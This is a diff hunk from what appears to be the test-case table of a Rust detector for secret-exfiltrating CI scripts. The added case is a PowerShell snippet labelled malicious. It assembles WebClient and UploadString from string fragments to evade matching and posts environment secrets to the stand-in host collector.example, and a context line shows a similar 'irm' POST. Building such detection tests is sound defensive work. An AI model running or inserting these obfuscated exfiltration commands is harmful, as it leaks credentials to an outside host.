@@ -736,6 +736,17 @@ irm $u -Method Post -Body "$env:A$env:B""##,
         place: "workflow-log",
         verdict: Verdict::Malicious,
     },
+    Way {
+        name: "a method whose name is put together",
+        shell: "pwsh",
+        script: r##"$w = New-Object ('Net.Web' + 'Client')
+$w.Headers.Add('Content-Type', 'text/plain')
+$w.('Upload' + 'String')('https://collector.example/in', "$env:A $env:B")"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
 ];
 
 /// What people do with their own secrets in the same words.
